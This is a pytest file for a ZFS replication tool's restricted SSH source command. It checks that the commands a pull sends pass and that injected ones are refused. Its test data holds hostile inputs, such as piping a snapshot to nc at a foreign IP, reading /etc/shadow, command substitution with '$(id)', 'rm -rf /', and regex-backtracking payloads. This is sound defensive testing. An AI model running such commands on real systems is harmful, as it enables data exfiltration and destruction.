"""The restricted source command: what a pull sends passes, everything else is refused.

The accepted commands are built with the engine's own builders, so a change to the
command lines zettabee sends that the restricted mode does not follow fails here.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.tokens import encode, nvpair, token
from zettabee import fastpath, zfs
from zettabee.capabilities import PROBE_SCRIPT, pool_argv, probe_argv
from zettabee.pair import hold_tag, snapshot_name
from zettabee.pipeline import parse_pipeline_stderr, pipeline_script
from zettabee.source import (
    MAX_REQUEST,
    REFUSED,
    Policy,
    Refused,
    check_command,
    parse_request,
    read_guids,
    run_pipeline,
)

RECORDED = Path(__file__).parent / "recorded"
FP = "0123456789abcdef0123456789abcdef"
OTHER_FP = "fedcba9876543210fedcba9876543210"
FS = "tank/home"
OWN = f"{FS}@zettabee.{FP}.20240101T000000Z"
OWN2 = f"{FS}@zettabee.{FP}.20240101T010000Z"
OWN_MARK = OWN.replace("@", "#")
# OWN and OWN2 are named as before the replica id (zettabee.pair), and TAG is their tag:
# a source keeps them until the first update after the upgrade, and serves them as ever.
TAG = hold_tag(FP, None)
RID, OTHER_RID = "0a1b2c3d", "99887766"
CLIENT = "10.0.0.1"
# The guids of the snapshots the tokens below name (those of the recorded tokens too).
GUIDS = {
    f"zettabee.{FP}.20240101T000000Z": 0x64F065D5EA205EBB,
    f"zettabee.{FP}.20240101T010000Z": 0xD074DD7AF954CB94,
}


def guids_of(fs: str) -> dict[str, int]:
    """What ``zfs get guid`` says of ``fs``'s snapshots here: each one of GUIDS, and a
    bookmark of the first."""
    first = next(iter(GUIDS))
    return {f"{fs}@{name}": guid for name, guid in GUIDS.items()} | {f"{fs}#{first}": GUIDS[first]}


POLICY = Policy(frozenset({FS, "tank/pg"}), frozenset({CLIENT}), guids_of)


def mbuffer_out(target: str = f"{CLIENT}:9090", *extra: str) -> list[str]:
    return ["mbuffer", "-q", "-s", "128k", "-m", "64M", "-W", "300", *extra, "-O", target]


# -- resume tokens as the kernel writes them ------------------------------------------


def token_for(toname: str, *extra: bytes) -> str:
    return token(
        nvpair("fromguid", 0x64F065D5EA205EBB),
        nvpair("object", 3),
        nvpair("offset", 0x2A0000),
        nvpair("bytes", 0x2C24B8),
        nvpair("toguid", 0xD074DD7AF954CB94),
        nvpair("toname", toname),
        *extra,
    )


def recorded_token(name: str) -> tuple[str, str]:
    """A token OpenZFS 2.1 wrote, and what ``zfs send -nvP -t`` said of it."""
    text = (RECORDED / f"openzfs-2.1-resume-{name}.txt").read_text()
    first, _, rest = text.partition("\n")
    return first, rest


@pytest.mark.parametrize("name", ["full", "incremental"])
def test_resume_tokens_read_as_zfs_reads_them(name: str) -> None:
    value, said = recorded_token(name)
    fields = zfs.decode_resume_token(value)
    shown = zfs.parse_resume_contents(said)
    assert fields["toname"] == shown["toname"]
    for key in ("object", "offset", "bytes", "toguid", "fromguid"):
        if key in shown:
            assert fields[key] == int(shown[key], 16), key
    assert set(fields) == set(shown)


def test_resume_tokens_built_here_read_back() -> None:
    fields = zfs.decode_resume_token(token_for(OWN, nvpair("compressok", True)))
    assert fields["toname"] == OWN and fields["compressok"] is True
    assert fields["toguid"] == 0xD074DD7AF954CB94


ALLOWED = [
    zfs.list_snapshots(FS),
    zfs.list_snapshots(FS, holds=True),
    zfs.list_snapshots(FS, holds=True, bookmarks=True),
    zfs.get([FS], ["type"]),
    zfs.get([FS, "tank/pg"], [*zfs.SNAPSHOT_PROPS, zfs.PROP_FINGERPRINT], depth=1),
    zfs.get([FS], [*zfs.SNAPSHOT_PROPS, zfs.PROP_FINGERPRINT], depth=1, own=True),
    zfs.snapshot(FS, snapshot_name(FP, RID, datetime.now(UTC))),
    zfs.send(OWN),
    zfs.send(OWN2, base=OWN),
    zfs.send(OWN2, base=f"{FS}@by-hand", intermediate=True),
    zfs.send(OWN, raw=True),
    zfs.send(OWN, estimate=True),
    zfs.send(OWN2, base=OWN, estimate=True),
    zfs.send(OWN2, base=OWN, intermediate=True, raw=True, estimate=True),
    zfs.send(OWN2, base=OWN_MARK),
    zfs.send(OWN2, base=f"{FS}#by-hand", intermediate=True, estimate=True),
    zfs.send_resume(token_for(OWN2)),
    zfs.send_resume(token_for(OWN2), estimate=True),
    zfs.destroy(OWN),
    zfs.destroy(OWN_MARK),
    zfs.hold(TAG, OWN),
    zfs.release(TAG, OWN),
    zfs.release(TAG, f"{FS}@by-hand"),
    zfs.bookmark(OWN, OWN_MARK),
    probe_argv(["tank"]),
    pool_argv("tank"),
    ["zfs", "list", "-H", "-o", "name", "tank"],
    ["mbuffer", "-V"],
    ["printenv", "SSH_CONNECTION"],  # where the mbuffer of a stream into the client connects
]


@pytest.mark.parametrize("argv", ALLOWED, ids=lambda argv: " ".join(argv[:3]))
def test_every_command_of_a_pull_passes_unchanged(argv: list[str]) -> None:
    assert parse_request(shlex.join(argv), POLICY) == [argv]


@pytest.mark.parametrize("name", ["full", "incremental"])
def test_a_recorded_token_resumes_only_where_its_snapshot_is_served(name: str) -> None:
    value = recorded_token(name)[0]
    served = Policy(frozenset({"gsrc/tok"}), frozenset({CLIENT}), guids_of)
    for argv in (zfs.send_resume(value), zfs.send_resume(value, estimate=True)):
        assert parse_request(shlex.join(argv), served) == [argv]
        with pytest.raises(Refused, match="gsrc/tok@zettabee"):
            parse_request(shlex.join(argv), POLICY)


def test_the_mbuffer_pipeline_passes_as_two_stages() -> None:
    for send in (
        zfs.send(OWN2, base=OWN),
        zfs.send(OWN2, OWN_MARK),
        zfs.send_resume(token_for(OWN2)),
    ):
        for out in (mbuffer_out(), mbuffer_out(f"{CLIENT}:9090", "-r", "2M")):
            assert parse_request(pipeline_script([send, out]), POLICY) == [send, out]


def test_the_mbuffer_initialize_takes_its_snapshot_in_the_same_command() -> None:
    for first in ([zfs.snapshot(FS, OWN.partition("@")[2])], [
        zfs.snapshot(FS, OWN.partition("@")[2]), zfs.hold(TAG, OWN)
    ]):  # fmt: skip
        command = pipeline_script([zfs.send(OWN), mbuffer_out()], first=first)
        assert parse_request(command, POLICY) == [["sh", "-c", command]]


def snapshot_then(send: list[str], *first: list[str], out: list[str] | None = None) -> str:
    snapshot = zfs.snapshot(FS, OWN.partition("@")[2])
    return pipeline_script([send, out or mbuffer_out()], first=[snapshot, *first])


ESCAPES = {
    "a second command": "zfs list -H -o name tank; id",
    "and-then": f"zfs snapshot {OWN} && id",
    "command substitution": f"zfs snapshot $(id){OWN}",
    "backticks": "zfs list -H -o name `id`",
    "a pipe": f"zfs send {OWN} | nc 10.6.6.6 1",
    "a redirection": "zfs list -H -o name tank > /etc/passwd",
    "a newline": "zfs list -H -o name tank\nid",
    "quoted metacharacters": "zfs list -H -o name 'tank;id'",
    "a shell": "sh -c id",
    "another program": "cat /etc/shadow",
    "the whole environment": "printenv",
    "another variable": "printenv PATH",
    "no command": "",
    "another dataset": "zfs send tank/secret@zettabee.0123456789abcdef0123456789abcdef.20240101T000000Z",
    "a dataset's child": f"zfs send {FS}/child@zettabee.{FP}.20240101T000000Z",
    "destroy of a manual snapshot": f"zfs destroy {FS}@by-hand",
    "destroy of the file system": f"zfs destroy -r {FS}",
    "destroy of a range": f"zfs destroy {FS}@a%b",
    "a rollback": f"zfs rollback -r {OWN}",
    "zfs set": f"zfs set readonly=off {FS}",
    "receive on the source": f"zfs receive -F {FS}",
    "send of a manual snapshot": f"zfs send {FS}@by-hand",
    "send to a file": f"zfs send {OWN} -o /tmp/x",
    "increment from another file system": f"zfs send -i tank/pg@x {OWN}",
    "an option smuggled as a dataset": f"zfs send -R {OWN}",
    "a leading dash": "zfs list -H -o name -tank",
    "extra spaces": "zfs  list -H -o name tank",
    "needless quotes": "zfs list -H -o name 'tank'",
    "zfs get of another pool's data": "zfs get -Hp -o name,property,value all -- tank/secret",
    "zfs get with a hostile property list": f"zfs get -Hp -o name,property,value 'guid;id' -- {FS}",
    "mbuffer to another host": pipeline_script([zfs.send(OWN), mbuffer_out("10.6.6.6:9090")]),
    "mbuffer writing a file": pipeline_script([zfs.send(OWN), [*mbuffer_out(), "-o", "/etc/x"]]),
    "mbuffer listening": pipeline_script([zfs.send(OWN), ["mbuffer", "-I", "9090"]]),
    "a pipeline of a shell": pipeline_script([["sh", "-c", "id"], mbuffer_out()]),
    "a pipeline of another dataset": pipeline_script(
        [["zfs", "send", f"tank/secret@zettabee.{FP}.20240101T000000Z"], mbuffer_out()]
    ),
    "a pipeline with an extra command": pipeline_script([zfs.send(OWN), mbuffer_out()]) + "; id",
    "a pipeline with a changed script": pipeline_script([zfs.send(OWN), mbuffer_out()]).replace(
        'rm -rf "$d"', "rm -rf /"
    ),
    "a quoted newline after a zettabee name": shlex.join(["zfs", "snapshot", f"{OWN}\n"]),
    # the snapshot taken in the mbuffer pipeline
    "a pipeline sending another snapshot than it takes": snapshot_then(zfs.send(OWN2)),
    "a pipeline after another command": pipeline_script(
        [zfs.send(OWN), mbuffer_out()], first=[["id"]]
    ),
    "a pipeline holding another snapshot": snapshot_then(zfs.send(OWN), zfs.hold(TAG, OWN2)),
    "a pipeline holding with another pair's tag": snapshot_then(
        zfs.send(OWN), zfs.hold(hold_tag(OTHER_FP, None), OWN)
    ),
    "a pipeline destroying after its snapshot": snapshot_then(zfs.send(OWN), zfs.destroy(OWN2)),
    "a snapshot pipeline to another host": snapshot_then(
        zfs.send(OWN), out=mbuffer_out("10.6.6.6:9090")
    ),
    "a snapshot pipeline with a changed script": snapshot_then(zfs.send(OWN)).replace(
        "if [ $s = 0 ]", "id; if [ $s = 0 ]"
    ),
    # the probe
    "a probe with another script": shlex.join(
        ["sh", "-c", f"{PROBE_SCRIPT}; id", "zettabee-probe", "tank"]
    ),
    "a probe under another name": shlex.join(["sh", "-c", PROBE_SCRIPT, "x", "tank"]),
    "a probe of another pool": shlex.join(probe_argv(["secret"])),
    "a probe of no pool": shlex.join(probe_argv([])),
    "a probe with an option": shlex.join(probe_argv(["-x"])),
    "zpool get of another pool": "zpool get all secret",
    "zpool get of one property": "zpool get version tank",
    "zpool set": "zpool set readonly=on tank",
    "zpool export": "zpool export tank",
    # listings
    "zfs get -t of other types": f"zfs get -Hp -d 1 -t all -o name,property,value guid -- {FS}",
    "zfs get -t without -d": f"zfs get -Hp -t filesystem,volume,snapshot,bookmark -o name,property,value guid -- {FS}",
    "zfs get of every depth": f"zfs get -Hp -r -o name,property,value guid -- {FS}",
    "zfs holds": f"zfs holds {OWN}",
    # holds
    "a hold of a manual snapshot": f"zfs hold {TAG} {FS}@by-hand",
    "a hold under another tag": f"zfs hold keep {OWN}",
    "a hold under another pair's tag": f"zfs hold {hold_tag(OTHER_FP, None)} {OWN}",
    "a hold of another dataset's snapshot": f"zfs hold {TAG} tank/secret@zettabee.{FP}.20240101T000000Z",
    "a recursive hold": f"zfs hold -r {TAG} {OWN}",
    "a release of someone else's hold": f"zfs release keep {FS}@by-hand",
    "a release on another dataset": f"zfs release {TAG} tank/secret@x",
    "a recursive release": f"zfs release -r {TAG} {OWN}",
    # bookmarks
    "a bookmark of a manual snapshot": shlex.join(zfs.bookmark(f"{FS}@by-hand", f"{FS}#by-hand")),
    "a bookmark under another name": shlex.join(zfs.bookmark(OWN, f"{FS}#mine")),
    "a bookmark into another file system": shlex.join(
        zfs.bookmark(OWN, f"tank/pg#{OWN.split('@')[1]}")
    ),
    "a bookmark of a bookmark": shlex.join(zfs.bookmark(OWN_MARK, OWN2.replace("@", "#"))),
    "a destroy of a manual bookmark": shlex.join(zfs.destroy(f"{FS}#by-hand")),
    "a destroy of another dataset's bookmark": shlex.join(
        zfs.destroy(f"tank/secret#zettabee.{FP}.20240101T000000Z")
    ),
    # sends that zettabee does not make
    "an estimate in the mbuffer pipeline": pipeline_script(
        [zfs.send(OWN, estimate=True), mbuffer_out()]
    ),
    "an estimate with its flags apart": f"zfs send -n -v -P {OWN}",
    "an estimate after other flags": f"zfs send -w -nvP {OWN}",
    "an estimate of a manual snapshot": f"zfs send -nvP {FS}@by-hand",
    "-I from a bookmark": shlex.join(["zfs", "send", "-I", OWN_MARK, OWN2]),
    "from another file system's bookmark": shlex.join(zfs.send(OWN2, base="tank/pg#x")),
    "a bookmark as the sent snapshot": shlex.join(zfs.send(OWN_MARK)),
    # resume tokens
    "a token of another dataset": shlex.join(
        zfs.send_resume(token_for(f"tank/secret@zettabee.{FP}.20240101T000000Z"))
    ),
    "a token of a manual snapshot": shlex.join(zfs.send_resume(token_for(f"{FS}@by-hand"))),
    "a token of a child": shlex.join(
        zfs.send_resume(token_for(f"{FS}/child@zettabee.{FP}.20240101T000000Z"))
    ),
    "a token naming no snapshot": shlex.join(zfs.send_resume(token(nvpair("toguid", 1)))),
    "a token naming its snapshot twice": shlex.join(
        zfs.send_resume(
            token_for(OWN, nvpair("toname", f"tank/secret@zettabee.{FP}.20240101T000000Z"))
        )
    ),
    "a token with a toname of the wrong type": shlex.join(
        zfs.send_resume(token(nvpair("toname", 5)))
    ),
    "a token with bytes after its list": shlex.join(
        zfs.send_resume(token(nvpair("toname", OWN), tail=b"\0" * 8))
    ),
    "a token of the wrong size": shlex.join(
        zfs.send_resume(token(nvpair("toname", OWN), size_delta=8))
    ),
    "a token with a nested list": shlex.join(
        zfs.send_resume(token(nvpair("toname", OWN), nvpair("x", 1, kind=19)))
    ),
    "a token that is no zlib": shlex.join(zfs.send_resume("1-abc-f0-0011223344")),
    "a token of another version": shlex.join(
        zfs.send_resume(token_for(OWN).replace("1-", "2-", 1))
    ),
    "a token in capitals": shlex.join(zfs.send_resume(token_for(OWN).upper())),
    "a token with an option after it": shlex.join([*zfs.send_resume(token_for(OWN)), "-v"]),
    "a token and a snapshot": shlex.join([*zfs.send_resume(token_for(OWN)), OWN]),
    "a resume of an estimate's flags apart": shlex.join(
        ["zfs", "send", "-n", "-t", token_for(OWN)]
    ),
}


@pytest.mark.parametrize("command", ESCAPES.values(), ids=ESCAPES.keys())
def test_everything_else_is_refused(command: str) -> None:
    with pytest.raises(Refused):
        parse_request(command, POLICY)


def test_hostile_names_from_the_builders_are_refused_not_run() -> None:
    stamp = f"zettabee.{FP}.20240101T000000Z"
    for name in ("tank/a b", "tank/$(id)", "tank/`id`", "tank/a;id", "-tank/x", "tank/a\nid"):
        own = f"{name}@{stamp}"
        builders = (
            zfs.list_snapshots(name, holds=True, bookmarks=True),
            zfs.send(own),
            zfs.send(own, estimate=True),
            zfs.send_resume(token_for(own)),
            zfs.destroy(own),
            zfs.hold(TAG, own),
            zfs.release(TAG, own),
            zfs.bookmark(own, own.replace("@", "#")),
            probe_argv([name]),
        )
        for argv in builders:
            with pytest.raises(Refused):
                parse_request(shlex.join(argv), POLICY)


def test_the_pipeline_reports_each_stage_as_the_shell_script_does(
    capfdbinary: pytest.CaptureFixture[bytes],
) -> None:
    stages = [
        [sys.executable, "-c", "print('x'*10)"],
        [sys.executable, "-c", "import sys; sys.stdin.read(); sys.exit('gone')"],
    ]
    status = run_pipeline(stages)
    err = capfdbinary.readouterr().err.decode()
    codes, errs, _ = parse_pipeline_stderr(err, 2)
    assert (status, codes) == (1, [0, 1])
    assert errs[1] == "gone"
    shell = subprocess.run(["sh", "-c", pipeline_script(stages)], capture_output=True, text=True)
    assert (shell.returncode, parse_pipeline_stderr(shell.stderr, 2)[:2]) == (status, (codes, errs))


def test_a_refusal_exits_126_and_says_why() -> None:
    env = {"SSH_ORIGINAL_COMMAND": "zfs destroy -r tank/home", "SSH_CONNECTION": f"{CLIENT} 1 2 22"}
    proc = subprocess.run(
        [sys.executable, "-m", "zettabee.source", FS],
        capture_output=True,
        text=True,
        env={**env, "PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == REFUSED
    assert proc.stdout == ""
    assert "refused" in proc.stderr and "zfs destroy -r tank/home" in proc.stderr


def test_the_key_s_own_datasets_are_validated() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "zettabee.source", "tank/$(id)"], capture_output=True, text=True
    )
    assert proc.returncode != 0 and "tank/$(id)" in proc.stderr


def test_mbuffer_may_connect_back_to_the_client_only_by_default() -> None:
    policy = Policy(frozenset({FS}), frozenset({CLIENT, "backup-net.example.com"}), guids_of)
    ok = pipeline_script([zfs.send(OWN), mbuffer_out("backup-net.example.com:9000")])
    assert len(parse_request(ok, policy)) == 2
    with pytest.raises(Refused, match="may not connect"):
        parse_request(ok, POLICY)


def update_script(**kw: object) -> str:
    """The one-round-trip update's script as the replicator builds it."""
    snap = OWN2.partition("@")[2]
    send = zfs.send(OWN2, base=kw.pop("send_base", OWN))  # type: ignore[arg-type]
    return fastpath.script(FS, snap, send, **kw)  # type: ignore[arg-type]


BASE = zfs.Snapshot(FS, OWN.partition("@")[2], 1234567890123, 0)
_OWN_NAME = OWN.partition("@")[2]
# The size estimate the script runs before its send: that send as a dry run.
ESTIMATE = zfs.send(OWN2, base=OWN, estimate=True)
# What the script does with the old base once the destination received the stream.
THEN = [
    ("hold", zfs.hold(TAG, OWN2)),
    ("release", zfs.release(TAG, OWN)),
    ("destroy", zfs.destroy(OWN)),
]


@pytest.mark.parametrize(
    "kw",
    [
        {},
        {"clock": True},
        {"hold": TAG, "holds": True},
        {"base": BASE, "hold": TAG, "holds": True, "clock": True},
        {"send_base": f"{FS}@hand-made"},
        {"holds": True, "then": THEN},
        {"holds": True, "then": THEN, "listing": False},
        {"listing": False},
        {"estimate": zfs.send(OWN2, base=OWN, estimate=True)},
        {
            "estimate": zfs.send(OWN2, base=OWN, estimate=True),
            "holds": True,
            "then": THEN,
            "listing": False,
            "clock": True,
        },
        {"estimate": ESTIMATE, "hold": TAG, "holds": True, "then": THEN[1:], "clock": True},
    ],
    ids=[
        "plain",
        "timed",
        "held",
        "base-checked",
        "hand-made-base",
        "base-let-go",
        "base-let-go-unlisted",
        "unlisted",
        "estimated",
        "estimated-let-go-unlisted",
        "estimated-held-first",
    ],  # fmt: skip
)
def test_the_update_script_runs_whole_in_a_shell(kw: dict[str, object]) -> None:
    command = update_script(**kw)
    assert parse_request(command, POLICY) == [["sh", "-c", command]]


def test_the_full_send_script_of_initialize_passes() -> None:
    snap = OWN.partition("@")[2]
    command = fastpath.script(FS, snap, zfs.send(OWN), hold=TAG, holds=True)
    assert parse_request(command, POLICY) == [["sh", "-c", command]]


SCRIPT_ESCAPES = {
    "appended command": update_script() + "\nid",
    "command after the send": update_script().replace("step send $s", "step send $s; id"),
    "other file system": update_script().replace(FS, "tank/other"),
    "not an own snapshot": update_script().replace(OWN2.partition("@")[2], "daily"),
    "sends another snapshot": update_script().replace(
        f"zfs send -i {OWN} {OWN2}", f"zfs send -i {OWN} {OWN}"
    ),
    "another pair's hold tag": update_script(hold=TAG).replace(
        f"zfs hold {TAG}", f"zfs hold {hold_tag(OTHER_FP, None)}"
    ),
    "guid not a number": update_script(base=BASE).replace("1234567890123", "$(id)"),
    "recursive send": update_script().replace("zfs send -i", "zfs send -R -i"),
    "substitution in the listing": update_script().replace("o=$(zfs", "o=$(id; zfs"),
    "no snapshot step": "step() { :; }\n" + shlex.join(zfs.send(OWN)) + "; s=$?",
    "destroys another file system's snapshot": update_script(
        then=[("destroy", zfs.destroy(f"tank/pg@{OWN.partition('@')[2]}"))]
    ),
    "destroys a snapshot not its own": update_script(
        then=[("destroy", zfs.destroy(f"{FS}@daily"))]
    ),
    "destroys recursively": update_script(then=[("destroy", zfs.destroy(FS, recursive=True))]),
    "releases a foreign tag": update_script(then=[("release", zfs.release("backup", OWN))]),
    "holds under another pair's tag": update_script(
        then=[("hold", zfs.hold(hold_tag(OTHER_FP, None), OWN2))]
    ),
    "runs another command once received": update_script(then=[("rm", ["rm", "-rf", "/"])]),
    "a step named otherwise": update_script(then=[("cleanup", zfs.destroy(OWN))]),
    "estimates another snapshot": update_script(
        estimate=zfs.send(OWN, base=f"{FS}@hand-made", estimate=True)
    ),
    "estimates without the dry run": update_script(estimate=zfs.send(OWN2, base=OWN)),
    "estimates another file system": update_script(
        estimate=zfs.send(
            f"tank/pg@{OWN2.partition('@')[2]}", base=f"tank/pg@{_OWN_NAME}", estimate=True
        )
    ),
    "estimates twice": update_script(estimate=ESTIMATE).replace(
        f"{shlex.join(ESTIMATE)}{fastpath.ESTIMATE_END}",
        f"{shlex.join(ESTIMATE)}{fastpath.ESTIMATE_END}\n"
        f"{shlex.join(ESTIMATE)}{fastpath.ESTIMATE_END}",
    ),
    "runs something else as the estimate": update_script(estimate=["id"]),
    "estimate's report into the stream": update_script(estimate=ESTIMATE).replace(
        fastpath.ESTIMATE_END, "; e=$?"
    ),
}


@pytest.mark.parametrize("command", SCRIPT_ESCAPES.values(), ids=SCRIPT_ESCAPES.keys())
def test_an_altered_update_script_is_refused(command: str) -> None:
    with pytest.raises(Refused):
        parse_request(command, POLICY)


# -- hostile requests: every one refused (126, logged), none crashes the command ------------

_STAMP = OWN.partition("@")[2]
NOT_A_TIME = f"{FS}@zettabee.{FP}.20241399T000000Z"  # the shape of a name, month 13

HOSTILE = {
    "an unbalanced quote": "zfs list -H -o name 'tank",
    "an unbalanced quote in the mbuffer pipeline": pipeline_script(
        [zfs.send(OWN), mbuffer_out()]
    ).replace("zfs send", "zfs send '", 1),
    "an unbalanced quote in the snapshot before the mbuffer pipeline": snapshot_then(
        zfs.send(OWN)
    ).replace("zfs snapshot", "zfs snapshot '", 1),
    "an unbalanced quote in the update script": update_script().replace(
        "zfs snapshot", "zfs snapshot '", 1
    ),
    "an unbalanced quote after the receive": update_script(holds=True, then=THEN).replace(
        "zfs release", "zfs release '", 1
    ),
    "a snapshot whose time is no time": shlex.join(zfs.snapshot(FS, NOT_A_TIME.partition("@")[2])),
    "a bookmark whose time is no time": shlex.join(zfs.destroy(NOT_A_TIME.replace("@", "#"))),
    "a resume token of a snapshot whose time is no time": shlex.join(
        zfs.send_resume(token_for(NOT_A_TIME))
    ),
    "an update script of a snapshot whose time is no time": update_script().replace(
        OWN2.partition("@")[2], NOT_A_TIME.partition("@")[2]
    ),
    "a NUL byte": f"zfs list -H -o name {FS}\0; id",
    "a lone surrogate (a byte that is not UTF-8)": f"zfs list -H -o name {FS}\udcff",
    "blanks only": " \t\n",
    "100 KB of one word": "zfs list -H -o name " + "a" * 100_000,
}


@pytest.mark.parametrize("command", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_request_is_refused_not_crashed_on(command: str) -> None:
    with pytest.raises(Refused):
        parse_request(command, POLICY)


def source_command(command: bytes, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """zettabee-source as sshd runs it: the request, as bytes, in its environment."""
    env = {
        b"SSH_ORIGINAL_COMMAND": command,
        b"SSH_CONNECTION": f"{CLIENT} 1 2 22".encode(),
        b"PATH": b"/usr/bin:/bin",
    }
    return subprocess.run(
        [sys.executable, "-m", "zettabee.source", FS],
        capture_output=True,
        text=True,
        errors="replace",
        env=env,
        timeout=timeout,
    )


@pytest.mark.parametrize(
    "command",
    [
        HOSTILE["an unbalanced quote in the mbuffer pipeline"].encode(),
        HOSTILE["an unbalanced quote in the update script"].encode(),
        HOSTILE["a snapshot whose time is no time"].encode(),
        f"zfs list -H -o name {FS}\xff".encode("latin-1"),
        b"zfs list -H -o name \xc3\x28 \xed\xa0\x80",
        HOSTILE["100 KB of one word"].encode(),
    ],
    ids=["pipeline quote", "update script quote", "no time", "latin-1", "bad UTF-8", "100 KB"],
)
def test_a_hostile_request_exits_126_with_one_line_and_no_traceback(command: bytes) -> None:
    proc = source_command(command)
    assert (proc.returncode, proc.stdout) == (REFUSED, ""), proc.stderr
    assert proc.stderr.startswith("zettabee-source: refused: "), proc.stderr
    assert "Traceback" not in proc.stderr and proc.stderr.count("\n") == 1, proc.stderr
    assert len(proc.stderr) < 1000  # what the operator sees is shortened, as is the log's


def test_a_request_the_checks_cannot_read_is_refused_too(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whatever a check raises ends as a refusal: the command fails closed."""
    import zettabee.source as source

    def broken(words: list[str], policy: Policy) -> None:
        raise IndexError("list index out of range")

    monkeypatch.setattr(source, "check_command", broken)
    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", shlex.join(zfs.destroy(OWN)))
    logged: list[str] = []
    monkeypatch.setattr(source, "_audit", logged.append)
    assert source.main([FS]) == REFUSED
    err = capsys.readouterr().err
    assert err.startswith("zettabee-source: refused: the request could not be checked"), err
    assert logged and "IndexError" in logged[0]


def _mutations(seed: int, count: int) -> list[str]:
    """Requests a step or three away from ones zettabee sends: a quote, a byte, a cut."""
    import random

    seeds = [shlex.join(argv) for argv in ALLOWED] + [
        update_script(),
        update_script(base=BASE, hold=TAG, holds=True, clock=True, then=THEN),
        pipeline_script([zfs.send(OWN), mbuffer_out()]),
        snapshot_then(zfs.send(OWN), zfs.hold(TAG, OWN)),
    ]
    alphabet = [*"'\"\\ \n\t@#$;|&(){}-0123456789az/:.\0\udcff", "zettabee.", FP, "'\"'\"'"]
    rnd = random.Random(seed)
    out = []
    for _ in range(count):
        text = rnd.choice(seeds)
        for _ in range(rnd.randint(1, 3)):
            at, how = rnd.randrange(len(text) + 1), rnd.random()
            if how < 0.4:
                text = text[:at] + rnd.choice(alphabet) + text[at:]
            elif how < 0.7:
                text = text[:at] + text[at + rnd.randint(1, 5) :]
            elif how < 0.9:
                text = text[:at] + rnd.choice(alphabet) + text[at + 1 :]
            else:
                text = text[:at]
        out.append(text)
    return out


def test_requests_near_the_real_ones_are_accepted_or_refused_nothing_else() -> None:
    crashed = []
    for command in _mutations(seed=17, count=3000):
        try:
            parse_request(command, POLICY)
        except Refused:
            pass
        except Exception as exc:  # noqa: BLE001 - what the test looks for
            crashed.append(f"{type(exc).__name__}: {exc}: {command[:120]!r}")
    assert not crashed, f"{len(crashed)} of 3000 crashed, e.g. {crashed[:3]}"


# -- requests made to be slow: refused at once ---------------------------------------------


def _literals(count: int, first: int) -> list[str]:
    """What :func:`pipeline_script` writes around its stages (with ``first`` commands)."""
    holes = [f"ZETTABEEHOLE{i}X" for i in range(first + count)]
    text = pipeline_script([[h] for h in holes[first:]], first=[[h] for h in holes[:first]])
    for hole in holes:
        text = text.replace(hole, "\0")
    return text.split("\0")


def backtracker(size: int) -> str:
    """``size`` characters shaped like the snapshot-hold-send-mbuffer pipeline, every
    separator between stages many times over and no end: a parser that tries each place
    a stage may end (a lazy regular expression) tries them all, four stages deep. The
    first zettabee-source took 16 s over 16 KB of it, and minutes over 32 KB."""
    pieces = _literals(2, 2)
    body = "".join(pieces[1:-1])
    return (pieces[0] + body * size)[: size - 1] + "x"


def slow_update_script(size: int) -> str:
    """An update script with a line of ``@`` where the base check goes: a greedy ``.*@``
    tried at each of them."""
    script = update_script() + "\ng=$("
    return script + "@" * (size - len(script))


@pytest.mark.parametrize("size", [32 * 1024, 15 * 1024], ids=["32 KB", "15 KB"])
def test_a_request_made_to_backtrack_is_refused_at_once(size: int) -> None:
    command = backtracker(size)
    assert len(command) == size
    started = time.monotonic()
    try:
        proc = source_command(command.encode(), timeout=5)
    except subprocess.TimeoutExpired:
        pytest.fail(f"no answer within 5 s to {size} characters (killed)")
    assert proc.returncode == REFUSED, proc.stderr
    assert time.monotonic() - started < 5


def test_an_update_script_made_to_backtrack_is_refused_at_once() -> None:
    command = slow_update_script(15 * 1024)
    started = time.monotonic()
    with pytest.raises(Refused):
        parse_request(command, POLICY)
    took = time.monotonic() - started
    assert took < 0.5, f"{took:.2f} s to refuse {len(command)} characters"


def longest_requests() -> tuple[dict[str, str], Policy]:
    """The longest request of each kind a pull sends: every name at ZFS's limit (255
    characters, snapshot name included), every option on, the largest numbers; and the
    policy that serves them."""
    snap = snapshot_name(FP, RID, datetime(2024, 1, 1, tzinfo=UTC))
    fs = "/".join(["p" * 60, "q" * 60, "r" * (255 - len(snap) - 1 - 122)])
    own, own2 = f"{fs}@{snap}", f"{fs}@{snap[:-3]}59Z"
    assert len(own) == 255 == len(own2)
    base = zfs.Snapshot(fs, snap, 2**64 - 1, 0)
    tag = hold_tag(FP, RID)
    then = [
        ("hold", zfs.hold(tag, own2)),
        ("release", zfs.release(tag, own)),
        ("destroy", zfs.destroy(own)),
    ]
    send = zfs.send(own2, base=own, intermediate=True, raw=True, compressed=True, props=True)
    big = 2**64 - 1
    fields = [nvpair(n, big) for n in ("object", "offset", "bytes", "toguid")]
    fields.append(nvpair("fromguid", big - 1))
    flags = [nvpair(n, True) for n in ("embedok", "compressok", "rawok", "largeblockok")]
    out = ["mbuffer", "-q", "-s", "128k", "-m", "1024M", "-W", "300", "-r", "1000M"]
    out += ["-O", f"{'h' * 253}:65535"]
    guids = {own: big, f"{fs}@{snap[:-3]}30Z": big - 1}
    served = Policy(frozenset({fs}), frozenset({CLIENT, "h" * 253}), lambda _: guids)
    return {
        "update": fastpath.script(fs, own2.partition("@")[2], send, clock=True, base=base,
                                  hold=tag, holds=True, then=then),
        "initialize over mbuffer": pipeline_script(
            [zfs.send(own, raw=True, compressed=True, props=True), out],
            first=[zfs.snapshot(fs, snap), zfs.hold(tag, own)],
        ),
        "resume": shlex.join(
            zfs.send_resume(token(*fields, nvpair("toname", own), *flags), estimate=True)
        ),
        "listing": shlex.join(zfs.list_snapshots(fs, holds=True, bookmarks=True)),
        "probe": shlex.join(probe_argv([fs.partition("/")[0]])),
    }, served  # fmt: skip


def test_the_longest_requests_of_a_pull_pass_well_under_the_limit() -> None:
    requests, served = longest_requests()
    for name, command in requests.items():
        assert parse_request(command, served), name
    longest = max(len(command) for command in requests.values())
    assert longest == len(requests["update"]) == 3099  # the figure the module quotes
    assert longest * 4 < MAX_REQUEST


def test_a_request_over_the_limit_is_refused_before_it_is_read() -> None:
